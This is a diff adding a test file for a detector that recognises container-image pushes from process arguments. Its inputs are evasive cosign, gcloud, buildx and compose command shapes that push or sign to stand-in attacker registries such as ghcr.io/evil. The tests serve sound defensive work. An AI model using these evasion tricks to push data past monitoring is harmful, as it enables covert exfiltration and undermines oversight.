@@ -1,0 +1,62 @@
+/**
+ * Red-team review of the push-recognition changes (cosign, cloud builds, standalone compose/buildx): argv
+ * shapes the tools accept that hid a push or named the wrong destination.
+ */
+import { describe, expect, it } from 'vitest';
+import { type Recognition, recognizeProcess } from '../../../src/rules/index.js';
+
+function recognize(binary: string, args: string): Recognition {
+  return recognizeProcess({ binary: `/usr/bin/${binary}`, args, parentBinary: null, parentArgs: null }, () => false);
+}
+
+function pushOf(binary: string, args: string) {
+  const r = recognize(binary, args);
+  return r?.kind === 'push' ? { remote: r.remote, host: r.destinationHost, declaredIn: r.declaredIn } : r;
+}
+
+describe('push argv shapes found by review', () => {
+  it("cosign's pflag short flags bundle and take attached values: `-ya k=v`, `-ak=v` are annotations", () => {
+    for (const args of [
+      'sign --key cosign.key -ya k=v ghcr.io/evil/x@sha256:0f',
+      'sign --key cosign.key -ak=v ghcr.io/evil/x@sha256:0f',
+      'sign -yak=v ghcr.io/evil/x@sha256:0f',
+    ])
+      expect(pushOf('cosign', args), args).toEqual({
+        remote: 'ghcr.io/evil/x@sha256:0f',
+        host: 'ghcr.io',
+        declaredIn: null,
+      });
+    expect(recognize('cosign', 'sign --key cosign.key -y ghcr.io/acme/x@sha256:0f')?.kind).toBe('signer');
+  });
+
+  it('gcloud builds submit: a value flag before the source (`--dir`, global `--billing-project`) does not hide it', () => {
+    for (const args of [
+      'builds submit --dir gs://acme/sub /root',
+      '--billing-project gs://x builds submit /root',
+      '--flatten https://x --trace-token t --access-token-file /tmp/t --flags-file f.yaml builds submit /srv/data',
+    ])
+      expect(recognize('gcloud', args)?.kind, args).toBe('push');
+  });
+
+  it("the standalone buildx binary's `build --push` names its tag, not a compose file", () => {
+    expect(pushOf('buildx', 'build --push -t ghcr.io/evil/x:1 .')).toEqual({
+      remote: 'ghcr.io/evil/x:1',
+      host: 'ghcr.io',
+      declaredIn: null,
+    });
+    expect(pushOf('docker-buildx', 'b --cache-to type=registry,ref=quay.io/evil/c .')).toMatchObject({
+      host: 'quay.io',
+    });
+    expect(pushOf('buildx', 'imagetools create -t ghcr.io/evil/x:1 ghcr.io/acme/app:1')).toMatchObject({
+      host: 'ghcr.io',
+    });
+    expect(pushOf('buildx', 'bake --push')).toEqual({ remote: null, host: null, declaredIn: 'the bake file' });
+    // compose has no `build -t`: a standalone compose build push is named by its compose file.
+    expect(pushOf('docker-compose', 'build --push')).toEqual({
+      remote: null,
+      host: null,
+      declaredIn: 'the compose file',
+    });
+    expect(recognize('docker-compose', 'bake --push')?.kind).not.toBe('push');
+  });
+});
